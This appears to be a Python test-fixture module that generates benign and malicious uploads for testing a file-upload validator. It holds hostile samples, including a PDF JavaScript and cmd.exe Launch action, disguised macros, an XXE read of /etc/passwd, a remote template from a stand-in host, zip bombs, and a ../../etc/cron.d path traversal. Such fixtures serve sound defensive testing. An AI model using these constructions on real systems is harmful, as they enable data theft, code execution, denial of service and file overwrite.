"""Files people hand in: lawful ones, and those that hide, run, swell or are not what they say."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping

import docx
from openpyxl import Workbook
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from config import env

_TYPES = "[Content_Types].xml"


def letter() -> bytes:
    """A Word file."""
    made = docx.Document()
    made.add_paragraph("Biên bản họp ngày 04 tháng 5 năm 2022")
    return _saved(made)


def sheet(rows: int = 3) -> bytes:
    """An Excel file."""
    book = Workbook()
    page = book.active
    assert page is not None
    for number in range(rows):
        page.append([number, "In tài liệu", 12_000])
    return _saved(book)


def scan(words: str = "") -> bytes:
    """A PDF of one page; other words make other bytes."""
    return _pdf(words=words)


def scripted() -> bytes:
    """A PDF that runs a script."""
    return _pdf(action={"/S": NameObject("/JavaScript"), "/JS": TextStringObject("app.alert('x');")})


def launching() -> bytes:
    """A PDF that starts a program from an annotation, its action under a reference of its own."""
    return _pdf(action={"/S": NameObject("/Launch"), "/F": TextStringObject("cmd.exe")})


def locked() -> bytes:
    """A PDF under a password."""
    made = PdfWriter()
    made.add_blank_page(595, 842)
    made.encrypt("bi-mat", algorithm="RC4-128")
    return _saved(made)


def carrying(name: str = "khac.exe", inside: bytes = b"MZ", *, listed: bool = False) -> bytes:
    """A PDF with another file in it; `listed`: among the files its catalogue says belong to the document."""
    made = PdfWriter()
    made.add_blank_page(595, 842)
    made.add_attachment(name, inside)
    if listed:
        file = made.root_object["/Names"]["/EmbeddedFiles"]["/Names"][1]  # type: ignore[index] # pypdf types no tree
        made.root_object[NameObject("/AF")] = ArrayObject([made._add_object(file.get_object())])
        made.root_object["/Names"]["/EmbeddedFiles"]["/Names"][1] = made.root_object["/AF"][0]  # type: ignore[index]
    return _saved(made)


def photo() -> bytes:
    """A JPG."""
    return (env.ROOT / "tests" / "pictures" / "to.jpg").read_bytes()


def drawing(across: int = 8, down: int = 8, points: bytes | None = None) -> bytes:
    """A PNG; its points may be too few."""
    whole = points if points is not None else (b"\0" + b"\x10\x20\x30" * across) * down
    head = struct.pack(">IIBBBBB", across, down, 8, 2, 0, 0, 0)
    pieces = (_piece(b"IHDR", head), _piece(b"IDAT", zlib.compress(whole)), _piece(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(pieces)


def repacked(content: bytes, changed: Mapping[str, bytes]) -> bytes:
    """An Office file with other parts, or with more of them."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in (*old.namelist(), *(one for one in changed if one not in old.namelist())):
            new.writestr(name, changed.get(name) or old.read(name))
    return out.getvalue()


def part(content: bytes, name: str) -> bytes:
    """A part of an Office file."""
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return packed.read(name)


def with_macros() -> bytes:
    """A Word file that carries macros, under the ending of one that does not."""
    types = part(letter(), _TYPES).replace(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main")
    return repacked(letter(), {_TYPES: types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def with_entities() -> bytes:
    """A Word file whose words come from another file of whoever opens it."""
    words = part(letter(), "word/document.xml")
    trick = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>'
    head, _, rest = words.partition(b"?>")
    return repacked(letter(), {"word/document.xml": head + b"?>" + b" " * 9000 + trick + rest})


def fetching() -> bytes:
    """A Word file that takes its template from elsewhere."""
    name = "word/_rels/document.xml.rels"
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    link = b'<Relationship Id="r9" Type="%b" Target="http://x.invalid/a.dotm" TargetMode="External"/>' % kind
    return repacked(letter(), {name: part(letter(), name).replace(b"</Relationships>", link + b"</Relationships>")})


def swelling() -> bytes:
    """An Excel file that unpacks to a thousand times its size."""
    return repacked(sheet(), {"xl/worksheets/sheet2.xml": b"<x>" + b" " * 40_000_000 + b"</x>"})


def of_many_paragraphs() -> bytes:
    """A Word file of a hundred kilobytes with five million empty paragraphs: whoever opens it needs 670 MB (F22)."""
    words = part(letter(), "word/document.xml")
    head, _, rest = words.partition(b"<w:body>")
    return repacked(letter(), {"word/document.xml": head + b"<w:body>" + b"<w:p/>" * 5_000_000 + rest})


def swelling_inside() -> bytes:
    """A Word file with an Excel file in it that does."""
    return repacked(letter(), {"word/embeddings/a.xlsx": swelling()})


def lying_about_its_size() -> bytes:
    """An Excel file whose directory says less than is packed."""
    whole = bytearray(repacked(sheet(), {"xl/long.xml": b"<x>" + bytes(range(32, 127)) * 4000 + b"</x>"}))
    place = whole.rindex(b"xl/long.xml") - 46 + 24
    whole[place : place + 4] = struct.pack("<L", 10)
    return bytes(whole)


def climbing() -> bytes:
    """A Word file with a part that lies outside it."""
    return repacked(letter(), {"../../etc/cron.d/x": b"x"})


def packed(parts: int = 1) -> bytes:
    """An archive."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for number in range(parts):
            made.writestr(f"{number}.txt", "x")
    return out.getvalue()


def of_many_parts() -> bytes:
    """A Word file of thousands of parts."""
    return repacked(letter(), {f"word/{number}.bin": b"x" for number in range(2001)})


def _pdf(*, action: Mapping[str, object] | None = None, words: str = "") -> bytes:
    made = PdfWriter()
    page = made.add_blank_page(595, 842)
    made.add_metadata({"/Title": words})
    if action:
        link = DictionaryObject(
            {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link")}
        )
        doing = made._add_object(DictionaryObject({NameObject(key): value for key, value in action.items()}))
        link[NameObject("/A")] = doing
        page[NameObject("/Annots")] = ArrayObject([made._add_object(link)])
    return _saved(made)


def _saved(made: object) -> bytes:
    out = io.BytesIO()
    (made.write if isinstance(made, PdfWriter) else made.save)(out)  # type: ignore[attr-defined] # each has its own
    return out.getvalue()


def _piece(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
